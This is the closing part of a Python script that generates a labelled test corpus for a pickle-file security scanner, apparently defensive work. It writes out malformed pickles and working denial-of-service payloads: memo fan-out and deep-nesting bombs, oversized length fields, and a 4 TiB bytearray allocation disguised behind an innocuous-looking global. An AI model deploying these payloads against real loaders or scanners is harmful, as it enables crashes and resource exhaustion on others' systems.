    mf('invalid_opcode_ff', A.proto(2) + b'\xff' + A.STOP, 'invalid opcode 0xff after PROTO 2')
    mf('invalid_opcode_mid', A.proto(4) + A.EMPTY_LIST + A.binint(1) + A.APPEND + b'\xb0' + A.STOP,
       'invalid opcode 0xb0 after a valid list')
    mf('invalid_opcode_zero', b'\x00\x00\x00\x00', 'zero-filled file')
    mf('stack_underflow_reduce', A.proto(2) + A.REDUCE + A.STOP, 'REDUCE on an empty stack')
    mf('stack_underflow_pop', A.proto(2) + A.POP + A.STOP, 'POP on an empty stack')
    mf('stack_underflow_append', A.proto(2) + A.binint(1) + A.APPEND + A.STOP, 'APPEND with one stack item')
    mf('stack_underflow_setitem', A.proto(2) + A.EMPTY_DICT + A.binint(1) + A.SETITEM + A.STOP, 'SETITEM missing a value')
    mf('mark_missing_tuple', A.proto(2) + A.binint(1) + A.TUPLE + A.STOP, 'TUPLE without a MARK')
    mf('mark_missing_pop_mark', A.proto(2) + A.NONE + A.POP_MARK + A.STOP, 'POP_MARK without a MARK')
    mf('memo_miss_binget', A.proto(2) + A.binget(5) + A.STOP, 'BINGET 5 with an empty memo')
    mf('memo_miss_get_p0', A.get0(3) + A.STOP, 'protocol-0 GET 3 with an empty memo')
    mf('memo_put_empty_stack', A.proto(2) + A.binput(0) + A.STOP, 'BINPUT on an empty stack')
    mf('stop_empty_stack', A.proto(2) + A.STOP, 'STOP with nothing on the stack')
    mf('stop_with_mark_left', A.proto(2) + A.MARK + A.STOP, 'STOP with only a MARK on the stack')
    mf('no_stop', A.proto(2) + A.binint(1), 'valid opcodes but no STOP (EOF)')
    mf('proto_6', A.proto(6) + A.NONE + A.STOP, 'PROTO 6 (unsupported)')
    mf('proto_255', A.proto(255) + A.NONE + A.STOP, 'PROTO 255 (looks like a safetensors header length)')
    mf('frame_in_frame', A.proto(4) + A.frame(12) + A.NONE + A.frame(1) + A.POP + A.NONE + A.STOP,
       'a FRAME opcode before the end of the current frame',
       expect_loads=True, verdict_note='C _pickle does not check frame nesting (pure-Python pickle._load rejects it)')
    mf('frame_exhausted', A.proto(4) + A.frame(3) + A.sbu('abcdef') + A.STOP, 'opcode argument runs past the end of its FRAME',
       expect_loads=True, verdict_note='C _pickle does not enforce frame ends when loading from bytes/file (pure-Python pickle rejects it)')
    mf('long1_then_garbage', A.proto(2) + b'\x8a\x09' + b'\x01' * 3, 'LONG1 declares 9 bytes, 3 present')
    mf('string0_bad_quotes', b"S'abc\n.", 'protocol-0 STRING without closing quote')
    mf('int0_not_a_number', b'Ixyz\n.', 'protocol-0 INT with non-numeric text')
    mf('float0_garbage', b'F1.2.3\n.', 'protocol-0 FLOAT with bad text')
    mf('binunicode_bad_utf8', A.proto(2) + b'X\x02\x00\x00\x00\xff\xfe' + A.STOP, 'BINUNICODE holding invalid UTF-8')
    mf('trailing_garbage_after_stop', pickle.dumps([1, 2, 3], protocol=2) + b'\xde\xad\xbe\xefGARBAGE',
       'valid pickle followed by junk bytes (pickle.load ignores them)',
       expect_loads=True, verdict_note='pickle.load ignores bytes after STOP; a scanner should report them')
    mf('global_no_newline', b'cos\nsystem', 'GLOBAL with the name not newline-terminated (EOF)', globals_=[])
    mf('stack_global_non_string', A.proto(4) + A.binint(1) + A.binint(2) + A.STACK_GLOBAL + A.STOP,
       'STACK_GLOBAL with int operands')
    mf('newobj_non_type', A.proto(2) + A.binint(1) + A.EMPTY_TUPLE + A.NEWOBJ + A.STOP, 'NEWOBJ whose class is an int')
    mf('build_on_empty', A.proto(2) + A.EMPTY_DICT + A.BUILD + A.STOP, 'BUILD with only one stack item')
    mf('persid_p0_no_loader', b'Pabc\n.', 'protocol-0 PERSID with no persistent_load')
    mf('buffer_opcode_without_buffers', A.proto(5) + A.NEXT_BUFFER + A.READONLY_BUFFER + A.STOP,
       'NEXT_BUFFER + READONLY_BUFFER with no buffers argument')

    # bombs
    laughs = A.proto(2) + A.binunicode('lol' * 3) + A.binput(0) + A.POP
    for lvl in range(1, 11):
        laughs += A.EMPTY_LIST + A.MARK + A.binget(lvl - 1) * 10 + A.APPENDS + A.binput(lvl) + A.POP
    laughs += A.binget(10) + A.STOP
    mf('bomb_billion_laughs_memo', laughs, 'memo fan-out: 10 levels x 10 BINGETs = 10^10 leaf references in ~300 bytes',
       expect_loads=True, verdict_note='CPython loads it (references are shared, no real expansion); a naive scanner may blow up')
    dup = A.proto(2) + A.EMPTY_LIST
    for _ in range(60):
        dup += A.DUP + A.TUPLE2
    mf('bomb_dup_tuple_fanout', dup + A.STOP, 'DUP+TUPLE2 x60: a DAG of 2^60 logical leaves',
       expect_loads=True, verdict_note='CPython loads it (references are shared, no real expansion); a naive scanner may blow up')
    n = 100000
    mf('bomb_deep_list_100k', A.proto(2) + A.EMPTY_LIST * n + A.APPEND * (n - 1) + A.STOP,
       '100000 nested lists via EMPTY_LIST/APPEND',
       expect_loads=True, verdict_note='CPython loads it (no recursion while unpickling); recursive scanners may overflow')
    mf('bomb_deep_mark_100k', A.proto(2) + (A.MARK * n) + A.NONE + (A.TUPLE * n) + A.STOP,
       '100000 MARKs then 100000 TUPLEs: nesting depth 100000',
       expect_loads=True, verdict_note='CPython loads it (mark stack grows on the heap); recursive scanners may overflow')
    mf('bomb_deep_dict_100k', A.proto(2) + (A.EMPTY_DICT + A.binint(1)) * n + (A.EMPTY_DICT + A.SETITEM * n) + A.STOP,
       '100000 nested dicts via SETITEM',
       expect_loads=True, verdict_note='CPython loads it (no recursion while unpickling); recursive scanners may overflow')
    mf('huge_binbytes8', A.proto(4) + b'\x8e' + struct.pack('<Q', 1 << 62) + b'xx' + A.STOP,
       'BINBYTES8 declaring 2^62 bytes (3 present)')
    mf('huge_binunicode8', A.proto(4) + b'\x8d' + struct.pack('<Q', (1 << 63) - 1) + b'x' + A.STOP,
       'BINUNICODE8 declaring 2^63-1 bytes')
    mf('huge_bytearray8', A.proto(5) + b'\x96' + struct.pack('<Q', 1 << 40) + A.STOP, 'BYTEARRAY8 declaring 1 TiB')
    mf('huge_long4', A.proto(2) + b'\x8b' + struct.pack('<i', 0x7fffffff) + b'\x01' * 8 + A.STOP,
       'LONG4 declaring 2^31-1 bytes')
    mf('huge_binbytes_u32', A.proto(3) + b'B' + struct.pack('<I', 0xffffffff) + b'abc' + A.STOP,
       'BINBYTES declaring 4 GiB')
    mf('huge_frame', A.proto(4) + A.frame(1 << 62) + A.NONE + A.STOP, 'FRAME declaring 2^62 bytes')
    mf('huge_long_binget', A.proto(2) + b'j' + struct.pack('<I', 0xffffffff) + A.STOP, 'LONG_BINGET 2^32-1 (memo miss)')
    mf('huge_long_binput', A.proto(2) + A.NONE + b'r' + struct.pack('<I', 0x7fffffff) + A.STOP,
       'LONG_BINPUT 2^31-1 (sparse memo index)')
    mf('bomb_bytearray_call', A.wrap(A.call(A.global_('__builtin__', 'bytearray'), [b'\x8a\x06' + (1 << 42).to_bytes(6, 'little')], 2), 2),
       '__builtin__.bytearray(2**42): a 4 TiB allocation through an allowlisted-looking global',
       globals_=['builtins.bytearray'])

    # seeded mutations of benign pickles
    rnd = random.Random(20240607)
    srcs = [('containers_p2', B['containers_p2']), ('containers_p4', B['containers_p4']),
            ('odict_p2', B['odict_p2']), ('small_p0', B['small_p0']), ('containers_p5', B['containers_p5'])]
    kept = 0
    tries = 0
    while kept < 40 and tries < 400:
        tries += 1
        name, src = srcs[tries % len(srcs)]
        d = bytearray(src)
        nmut = rnd.randint(1, 4)
        what = []
        for _ in range(nmut):
            k = rnd.randrange(len(d))
            op = rnd.choice(['flip', 'byte', 'del', 'dup'])
            if op == 'flip':
                d[k] ^= 1 << rnd.randrange(8)
            elif op == 'byte':
                d[k] = rnd.randrange(256)
            elif op == 'del' and len(d) > 4:
                del d[k]
            else:
                d[k:k] = d[k:k + 1]
            what.append('%s@%d' % (op, k))
        d = bytes(d)
        if d == src or not restricted_load_fails(d):
            continue
        mf('mut/%s_m%02d' % (name, kept), d, 'seeded mutation of %s: %s' % (name, ', '.join(what)))
        kept += 1


def main():
    for sub in SUBDIRS:
        shutil.rmtree(CORPUS / sub, ignore_errors=True)
    B = gen_benign()
    gen_malicious_core()
    gen_gadgets()
    gen_containers(B)
    gen_loadfail(B)
    gen_malformed(B)
    with open(CORPUS / 'manifest.jsonl', 'w') as f:
        for e in ENTRIES:
            f.write(json.dumps(e) + '\n')
    counts = collections.Counter(e['category'] for e in ENTRIES)
    print('wrote %d samples: %s' % (len(ENTRIES), dict(counts)))


if __name__ == '__main__':
    main()
